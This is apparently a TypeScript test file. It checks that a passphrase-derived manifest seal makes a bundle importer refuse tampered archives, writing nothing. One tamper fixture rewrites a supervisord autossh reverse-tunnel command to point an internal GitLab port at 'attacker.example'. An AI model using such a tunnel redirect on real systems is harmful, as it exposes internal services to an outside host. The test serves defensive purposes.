// An attacker who holds an encrypted bundle but not its passphrase rewrites the plain files (the
// ArmorCode server, known_hosts) and their manifest records. The manifest seal made with the
// passphrase must make the real importer refuse that, writing nothing.
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { createBundle, importBundle, openBundle, type BundleFile } from '../../main/services/bundle';

const PASS = 'correct horse battery staple';
const enc = (t: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(t);
const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'ao-seal-'));
const hex = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');

const FILES: BundleFile[] = [
  { path: 'supervisord.conf', data: enc('command=autossh -R 9001:gitlab.internal:443 tunnel@ssh.armorcode.example\n'), mode: 0o644, secret: false },
  { path: 'known_hosts', data: enc('ssh.armorcode.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIReal\n'), mode: 0o644, secret: false },
  { path: 'private-key.pem', data: enc('-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbg==\n-----END OPENSSH PRIVATE KEY-----\n'), mode: 0o600, secret: true },
];

async function made(passphrase?: string): Promise<Uint8Array> {
  const b = await createBundle({
    files: FILES,
    platform: 'armorcode',
    variant: null,
    appVersion: 't',
    bundleName: 'a.zip',
    ...(passphrase ? { passphrase } : {}),
  });
  if (!b.ok) throw new Error(b.error.message);
  return b.value.zip;
}

/** Rewrites one plain file and its manifest record, as an attacker without the passphrase can. */
function rewritePlain(zip: Uint8Array, file: string, text: string): Uint8Array {
  const entries = unzipSync(zip);
  const manifest = JSON.parse(new TextDecoder().decode(entries['manifest.json'])) as { files: { path: string; size: number; sha256: string }[] };
  const data = enc(text);
  entries[file] = data;
  Object.assign(
    manifest.files.find((f) => f.path === file)!,
    { size: data.byteLength, sha256: hex(data) },
  );
  entries['manifest.json'] = enc(JSON.stringify(manifest, null, 2) + '\n');
  return zipSync(entries);
}

describe('a bundle made with a passphrase', () => {
  it('unpacks with the passphrase, byte for byte', async () => {
    const to = path.join(tmp(), 'agent');
    const r = await importBundle(await made(PASS), to, { passphrase: PASS });
    expect(r.ok).toBe(true);
    for (const f of FILES) expect(readFileSync(path.join(to, f.path))).toEqual(Buffer.from(f.data));
    expect(existsSync(path.join(to, 'manifest.json.auth'))).toBe(false);
  });

  it('refuses plain files rewritten together with their manifest records, writing nothing', async () => {
    const evil = rewritePlain(await made(PASS), 'supervisord.conf', 'command=autossh -R 9001:gitlab.internal:443 tunnel@attacker.example\n');
    const to = path.join(tmp(), 'agent');
    const r = await importBundle(evil, to, { passphrase: PASS });
    expect(r.ok === false && r.error.code).toBe('BUNDLE_INVALID');
    expect(r.ok === false && r.error.message).toMatch(/manifest\.json was changed/);
    expect(existsSync(to)).toBe(false);
  });

  it('refuses the same rewrite with the seal removed', async () => {
    const entries = unzipSync(rewritePlain(await made(PASS), 'known_hosts', 'ssh.armorcode.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil\n'));
    delete entries['manifest.json.auth'];
    const to = path.join(tmp(), 'agent');
    const r = await importBundle(zipSync(entries), to, { passphrase: PASS });
    expect(r.ok === false && r.error.code).toBe('BUNDLE_INVALID');
    expect(existsSync(to)).toBe(false);
  });

  it('refuses a seal taken from another bundle made with the same passphrase', async () => {
    const victim = unzipSync(rewritePlain(await made(PASS), 'supervisord.conf', 'command=evil\n'));
    victim['manifest.json.auth'] = unzipSync(await made(PASS))['manifest.json.auth']!;
    const r = await openBundle(zipSync(victim), { passphrase: PASS });
    expect(r.ok === false && r.error.code).toBe('BUNDLE_INVALID');
  });

  it('says the passphrase is wrong (not that the bundle is hostile) for a wrong passphrase', async () => {
    const r = await openBundle(await made(PASS), { passphrase: 'not the passphrase' });
    expect(r.ok === false && r.error.code).toBe('PASSPHRASE_WRONG');
  });

  it('can still be checked without the passphrase (secrets locked, manifest not verifiable)', async () => {
    const r = await openBundle(await made(PASS));
    expect(r.ok && r.value.files.map((f) => f.status)).toEqual(['ok', 'ok', 'ok', 'locked']);
  });

  it('refuses a file named like the seal', async () => {
    const b = await createBundle({
      files: [{ path: 'manifest.json.auth', data: enc('x'), mode: 0o644, secret: false }],
      platform: null,
      variant: null,
      appVersion: 't',
      bundleName: 'a.zip',
    });
    expect(b.ok === false && b.error.code).toBe('BAD_INPUT');
  });
});

describe('a bundle made without a passphrase', () => {
  it('has no seal and unpacks as before', async () => {
    const zip = await made();
    expect(Object.keys(unzipSync(zip))).not.toContain('manifest.json.auth');
    const to = path.join(tmp(), 'agent');
    expect((await importBundle(zip, to)).ok).toBe(true);
  });
});
